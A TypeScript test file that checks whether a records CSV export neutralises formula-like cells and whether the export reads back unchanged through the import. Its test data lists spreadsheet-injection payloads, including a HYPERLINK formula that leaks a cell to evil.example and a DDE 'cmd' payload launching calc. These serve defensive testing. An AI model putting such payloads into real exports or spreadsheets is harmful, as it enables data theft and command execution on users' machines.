import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RECORD_CSV_COLUMNS } from '../../../shared/schemas/records.ts';
import { csvCell, csvCellSql } from '../../platform/csv/cell.ts';
import { withDbScope } from '../../platform/db/context.ts';
import { createOrg, type TestOrg } from '../../test/factories.ts';
import { createTestEnv, type TestEnv } from '../../test/harness.ts';
import { BusinessRecord } from './record.entity.ts';
import { CSV_HEADER, recordCsvChunks } from './records.csv.ts';
import { scanRecordsCsv, type ImportRow } from './records.import.ts';

// Issue 17 finding 8: exports neutralise formula-like text in PostgreSQL with the same rule as csvCell, and an
// export read back by the import gives the same categories and amounts (negative numbers included).

let env: TestEnv;
let org: TestOrg;
beforeAll(async () => {
  env = await createTestEnv();
  org = await createOrg(env.deps);
});
afterAll(async () => {
  await env?.close();
});

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  "'=already quoted",
  "'plain",
  '-12.5',
  'plain, with "quotes"',
];

describe('the export', () => {
  it('csvCellSql writes in PostgreSQL what csvCell writes in Node', async () => {
    const values = [...HOSTILE, '\r=1', '-', '', '+7', '1e5', 'ünïcode =x'];
    const rows = await withDbScope(env.deps.em, undefined, (em) =>
      em
        .getConnection()
        .execute<{ cell: string }[]>(
          `select ${csvCellSql('v')} as cell from jsonb_array_elements_text(?::jsonb) with ordinality as t(v, n) order by n`,
          [JSON.stringify(values)],
        ),
    );
    const fromSql = rows.map((r) => (parse(`${r.cell}\n`) as string[][])[0]?.[0] ?? '');
    const fromNode = values.map((v) => (parse(`${csvCell(v)}\n`) as string[][])[0]?.[0] ?? '');
    expect(fromSql).toEqual(fromNode);
  });

  it('writes formula-like categories as text, and the import reads the export back unchanged', async () => {
    const amounts = ['-12.50', '-0.01', '1234.50', '-999999999999.99'];
    await withDbScope(env.deps.em, org.id, async (em) => {
      HOSTILE.forEach((category, i) =>
        em.create(BusinessRecord, {
          organization: org.id,
          user: org.owner.id,
          category,
          status: 'active',
          amount: amounts[i % amounts.length]!,
          createdAt: new Date(Date.UTC(2026, 0, 1, 0, 0, i)),
        }),
      );
      await em.flush();
    });
    const csv = await withDbScope(env.deps.em, org.id, (em) =>
      em.transactional(async (tx) => {
        let text = CSV_HEADER;
        for await (const chunk of recordCsvChunks(tx, org.id, { from: null, to: null, statuses: null })) {
          text += chunk.data.toString('utf8');
        }
        return text;
      }),
    );
    const lines = parse(csv, { columns: true }) as Record<(typeof RECORD_CSV_COLUMNS)[number], string>[];
    expect(lines).toHaveLength(HOSTILE.length);
    // No cell a spreadsheet would run: the hostile ones start with the prefix, the numbers are plain numbers.
    for (const line of lines) {
      for (const cell of Object.values(line)) {
        expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell), cell).toBe(false);
      }
    }
    expect(lines.map((l) => l.Category)).toEqual(
      HOSTILE.map((c) => (/^'*[=+\-@\t\r]/.test(c) && c !== '-12.5' ? `'${c}` : c)),
    );
    expect(lines.map((l) => l.Amount)).toEqual(HOSTILE.map((_, i) => amounts[i % amounts.length]!));

    const imported: ImportRow[] = [];
    const result = await scanRecordsCsv(Readable.from([csv]), {
      members: new Map([[org.owner.email.toLowerCase(), org.owner.id]]),
      onRow: (row) => {
        imported.push(row);
      },
    });
    expect(result).toMatchObject({ errorCount: 0, fatal: null, rows: HOSTILE.length });
    expect(imported.map((r) => r.category)).toEqual(HOSTILE);
    expect(imported.map((r) => r.amount)).toEqual(HOSTILE.map((_, i) => amounts[i % amounts.length]!));
  });
});
